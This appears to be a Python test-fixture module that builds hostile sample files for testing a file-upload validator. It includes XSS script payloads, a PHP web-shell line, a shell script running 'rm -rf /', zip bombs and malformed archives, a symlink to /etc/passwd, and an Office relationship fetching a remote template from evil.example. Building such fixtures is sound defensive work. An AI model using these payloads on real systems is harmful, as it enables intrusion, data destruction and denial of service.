"""How hostile files are made."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

from PIL import Image
from PIL.PngImagePlugin import PngInfo

HTML = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 64
SHELL = b"#!/bin/sh\nrm -rf /\n"
PHP = b"<?php system($_GET['c']); ?>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
PDF = b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\n%%EOF\n"
TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)
FOLDERS = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}


def zipped(parts: Mapping[str, bytes], *, how: int = zipfile.ZIP_DEFLATED) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", how) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name), content, how)
    return kept.getvalue()


def office(kind: str, more: Mapping[str, bytes] | None = None) -> bytes:
    """Return the least document of a kind, with further parts."""
    parts = {"[Content_Types].xml": TYPES, FOLDERS[kind]: b"<a/>"}
    return zipped({**parts, **(more or {})})


def jar() -> bytes:
    return zipped({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"})


def bomb(megabytes: int = 20, name: str = "a.txt") -> bytes:
    return zipped({name: b" " * (megabytes * 2**20)})


def patched(content: bytes, old: bytes, new: bytes) -> bytes:
    assert old in content
    assert len(old) == len(new)
    return content.replace(old, new)


def with_directory(content: bytes, *, at: int, form: str, value: int) -> bytes:
    """Return a zip whose first entry of the directory says something else."""
    begin = content.index(b"PK\x01\x02") + at
    packed = struct.pack(form, value)
    return content[:begin] + packed + content[begin + len(packed) :]


def lying_small() -> bytes:
    """A part that unpacks to more than is declared, with the sum of its beginning."""
    content = zipped({"a.txt": b"x" * 5000})
    content = with_directory(content, at=24, form="<I", value=10)
    return with_directory(content, at=16, form="<I", value=zlib.crc32(b"x" * 10))


def overlapping() -> bytes:
    """Two entries of the directory over the same bytes, as in the densest bombs."""
    content = zipped({"a.txt": b"x" * 100, "b.txt": b"y" * 100})
    second = content.index(b"PK\x01\x02", content.index(b"PK\x01\x02") + 4)
    return content[: second + 42] + struct.pack("<I", 0) + content[second + 46 :]


def locked() -> bytes:
    content = zipped({"a.txt": b"secret"})
    return with_directory(content, at=8, form="<H", value=1)


def linked() -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as archive:
        entry = zipfile.ZipInfo("a.txt")
        entry.create_system, entry.external_attr = 3, 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return kept.getvalue()


def picture(form: str, *, size: tuple[int, int] = (40, 30), **options: object) -> bytes:
    kept = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(kept, form, **options)
    return kept.getvalue()


def photo(orientation: int = 6) -> bytes:
    """A photo with a place, a device and a script in its comment."""
    exif = Image.Exif()
    exif[0x0110], exif[0x0112] = "SecretPhone", orientation
    exif.get_ifd(0x8825).update({1: "N", 2: (31, 14, 3), 3: "E", 4: (121, 28, 5)})
    return picture("JPEG", exif=exif, comment=b"<script>alert(1)</script>SecretComment")


def labelled() -> bytes:
    words = PngInfo()
    words.add_text("Comment", "SecretLabel")
    words.add_itxt("XML:com.adobe.xmp", "<x>SecretXmp</x>")
    return picture("PNG", pnginfo=words)


def chunk(kind: bytes, content: bytes) -> bytes:
    return (
        struct.pack(">I", len(content))
        + kind
        + content
        + struct.pack(">I", zlib.crc32(kind + content))
    )


def png_of(wide: int, high: int) -> bytes:
    """A picture that says to be this large, and holds next to nothing."""
    head = struct.pack(">IIBBBBB", wide, high, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\x00" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def moving() -> bytes:
    kept = io.BytesIO()
    frames = [Image.new("P", (20, 20), shade) for shade in range(5)]
    frames[0].save(kept, "GIF", save_all=True, append_images=frames[1:], comment=b"SecretGif")
    return kept.getvalue()


def relation(kind: str, *, first: bool) -> bytes:
    """A part of a document that is fetched from elsewhere; attributes in either order."""
    link = f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
    away = 'Target="http://evil.example/a.dotm" TargetMode="External"'
    both = f"{link} {away}" if first else f"{away} {link}"
    return f"<Relationships><Relationship Id='r1' {both}/></Relationships>".encode()
